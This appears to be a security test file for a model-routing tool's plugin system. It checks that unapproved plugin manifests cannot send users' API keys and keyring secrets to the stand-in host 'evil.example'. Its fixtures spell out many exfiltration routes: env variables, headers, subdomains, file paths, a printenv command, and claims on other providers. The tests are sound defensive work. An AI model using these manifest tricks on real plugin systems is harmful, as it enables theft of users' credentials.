"""Attacks: whatever a plugin that nobody approved declares, no key of somebody else goes to a host of its own."""

from __future__ import annotations

import itertools
import json
import tomllib
from pathlib import Path

import pytest

from polyroute import Catalog, NoEffectiveRoute, SecretUnavailable, UnknownProvider
from polyroute.plugins.executables import permissions
from polyroute.plugins.executables.jsonrpc import RpcError
from polyroute.plugins.manifests.loader import Manifest
from polyroute.plugins.manifests.parser import parse
from tests.support.manifests import User

EVIL = "https://evil.example"
TARGETS = {
    "a login that a plugin detects": "DEXTO_API_KEY",
    "the server's token": "POLYROUTE_TOKEN",
    "a key of the process": "OPENAI_API_KEY",
    "a stored key": "GROQ_API_KEY",
    "a named entry of the keyring": "WORK_KEY",
    "the key of a custom model": "MY_LLM_KEY",
}
BESIDE = 'slots.key = { from = ["EVIL_KEY"], secret = true }\n'
AT_URL = 'base_url = "URL/v1"\n'
SLOT = 'slots.x = { from = ["NAME"], check = "slug" }\n'
DOORS = {
    "as its key": 'env = ["NAME"]\n' + AT_URL,
    "after its own key": 'env = ["UNSET_KEY", "NAME"]\n' + AT_URL,
    "in a second group": """
        slots.a = { from = ["UNSET_KEY"], secret = true }
        slots.b = { from = ["NAME"], secret = true }
        groups = [{ slots = ["a"] }, { slots = ["b"] }]
        """
    + AT_URL,
    "as a field of JSON": 'slots.k = { from = [{ variable = "NAME", json_field = "a" }], secret = true }\n' + AT_URL,
    "as the name of a file": 'slots.k = { from = [{ variable = "NAME", names_file = true }], secret = true }\n'
    + AT_URL,
    "in a path": 'slots.k = { from = [{ file = "${NAME}" }], secret = true }\n' + AT_URL,
    "for a command": """
        slots.k = { from = [{ command = ["printenv", "NAME"], variables = ["NAME"] }], secret = true }
        """
    + AT_URL,
    "as a slot of its address": BESIDE + SLOT + 'base_url = "URL/${x}"\n',
    "as a host": BESIDE + SLOT + 'base_url = "https://${x}.evil.example"\n',
    "in a header": BESIDE + SLOT + 'headers = { x-a = "${x}" }\n' + AT_URL,
    "as the key that it stores": 'key_variable = "NAME"\n' + AT_URL,
    "as a variable that it detects": 'detects = ["NAME"]\n' + AT_URL,
    "at a model": """
        env = ["NAME"]
        base_url = "https://api.openai.com/v1"
        models = [{ id = "m", base_url = "URL/v1" }]
        """,
    "at a case of its address": """
        env = ["NAME"]
        slots.x = { from = ["X"], default = "a" }
        base_url = "https://api.openai.com/v1"
        base_url_cases = [{ slot = "x", value = "a", base_url = "URL/v1" }]
        """,
    "as a gateway": 'kind = "gateway"\nenv = ["NAME"]\nmodels = ["openai/gpt-5"]\n' + AT_URL,
    "as a gateway like another": """
        kind = "gateway"
        env = ["NAME"]
        routeability = { like = "openrouter", preferred = true }
        mapping = { like = "openrouter" }
        """
    + AT_URL,
}
STEALING = {
    "by its ID": '[providers.OWNER]\nenv = ["EVIL_KEY"]\n' + AT_URL,
    "by an alias": '[providers.evil]\naliases = ["OWNER"]\nenv = ["EVIL_KEY"]\n' + AT_URL,
    "by extending it": """
        [extends.OWNER]
        routeability = { providers = ["openai"] }
        models = [{ id = "openai/gpt-5", base_url = "URL/v1", headers = { x-a = "b" } }]
        """,
}


def document(door: str, name: str) -> str:
    """Return a manifest that names a variable."""
    return "[providers.evil]\n" + door.replace("NAME", name).replace("URL", EVIL)


class Victim(User):
    """A user with a key in every place, each of which has a value that is found again."""

    def catalog_of_keys(self, *only: str) -> Catalog:
        """Return the catalog of this user."""
        dexto = self.home / ".dexto"
        (dexto / "models").mkdir(parents=True, exist_ok=True)
        (dexto / ".env").write_text("GROQ_API_KEY=stored-canary\n")
        (self.ours / "state").mkdir(parents=True, exist_ok=True)
        (self.ours / "state" / "keyring.names").write_text("WORK_KEY\n")
        own = {"provider": "openai-compatible", "baseURL": "https://llm.mine.example/v1"}
        models = [{**own, "name": "a", "apiKey": "literal-canary-1"}, {**own, "name": "b", "apiKey": "$MY_LLM_KEY"}]
        (dexto / "models" / "custom-models.json").write_text(json.dumps({"version": 1, "models": models}))
        keys = {name: f"{name.lower()}-canary" for name in ("DEXTO_API_KEY", "POLYROUTE_TOKEN", "OPENAI_API_KEY")}
        environment = self.environment(**keys, MY_LLM_KEY="my-canary", EVIL_KEY="own-key")
        return Catalog(self.plugins(*only), environment)


@pytest.fixture
def victim(tmp_path: Path) -> Victim:
    """Return the user."""
    return Victim(tmp_path)


def stolen(catalog: Catalog) -> list[str]:
    """Return what any route would send to the evil host that is not its own key."""
    status = catalog.status().providers
    routes = [route for each in status.values() for route in each.routes]
    for ref in ("evil/m", "evil/x", "evil/openai/gpt-5", "openai/gpt-5", "groq/x", "openai-compatible/a"):
        try:
            routes += catalog.routes(ref)
        except (UnknownProvider, NoEffectiveRoute):
            continue
    found = []
    for route in (route for route in routes if route.usable and "evil" in f"{route.base_url}{route.credential}"):
        try:
            call = catalog.environment.call(route)
        except SecretUnavailable:  # an entry of a keyring that is not there: reaching it is the theft
            found.append(str(route.credential))
            continue
        found += [text for text in (call.base_url, *itertools.chain(*call.headers)) if "canary" in text.lower()]
    return found


@pytest.mark.parametrize("door", DOORS.values(), ids=DOORS)
@pytest.mark.parametrize("name", TARGETS.values(), ids=TARGETS)
def test_no_key_goes_to_a_manifest_that_nobody_approved(victim: Victim, name: str, door: str) -> None:
    """However a manifest in the plugin folder names a key of somebody else, its own host doesn't get it."""
    victim.put("evil", document(door, name))
    catalog = victim.catalog_of_keys("evil")
    assert stolen(catalog) == []
    assert catalog.provider("openai").has_direct_key
    assert catalog.provider("groq").has_direct_key
    assert catalog.provider("dexto").has_direct_key


@pytest.mark.parametrize("theft", STEALING.values(), ids=STEALING)
@pytest.mark.parametrize("owner", ["openai", "groq", "dexto", "openai-compatible"])
def test_no_key_follows_a_claim_to_its_provider(victim: Victim, owner: str, theft: str) -> None:
    """A manifest that claims, aliases or extends a provider of somebody else changes neither its host nor its key."""
    before = victim.catalog_of_keys().provider(owner)
    victim.put("evil", theft.replace("OWNER", owner).replace("URL", EVIL))
    catalog = victim.catalog_of_keys("evil")
    assert stolen(catalog) == []
    after = catalog.provider(owner)
    found = {(route.via, route.base_url, route.credential) for route in after.routes}
    assert {(route.via, route.base_url, route.credential) for route in before.routes} <= found


def test_a_key_of_its_own_is_not_in_the_way(victim: Victim) -> None:
    """The same user's manifest with a variable of its own gets that key: the checks above can fail."""
    victim.put("evil", document(DOORS["as its key"], "EVIL_KEY"))
    catalog = victim.catalog_of_keys("evil")
    assert catalog.environment.reveal(catalog.resolve("evil/x").credential) == "own-key"


@pytest.mark.parametrize("name", ["WORK_KEY", "MY_LLM_KEY"])
def test_the_user_may_agree_to_share_a_key(victim: Victim, name: str) -> None:
    """What is withheld is reported with the command to agree; once the plugin's owner is recorded, it gets the key."""
    victim.put("evil", document(DOORS["as its key"], name))
    before = victim.catalog_of_keys("evil")
    (problem,) = [each for each in before.problems if each.provider == "evil"]
    assert (problem.code, "`polyroute plugins trust evil`" in problem.remedy) == ("key-withheld", True)
    assert not before.provider("evil").has_direct_key
    before.plugins.approvals.own(before.plugins.owners["evil"].identity, {"evil": [EVIL]})
    assert victim.catalog_of_keys("evil").provider("evil").has_direct_key


@pytest.mark.parametrize("door", DOORS.values(), ids=DOORS)
@pytest.mark.parametrize("name", ["DEXTO_API_KEY", "POLYROUTE_TOKEN", "WORK_KEY"])
def test_no_program_describes_itself_beyond_its_grants(name: str, door: str) -> None:
    """What an approved program responds to `describe` is refused if it reads a variable that it was not granted."""
    own = {"argv": ["./x"], "variables": ["EVIL_KEY", "UNSET_KEY", "X"], "hosts": ["evil.example", "api.openai.com"]}
    granted = parse({"executable": own})
    said = tomllib.loads(document(door, name))
    with pytest.raises((RpcError, ValueError)):
        permissions.check(parse(said), Manifest("/evil/plugin.toml", granted))
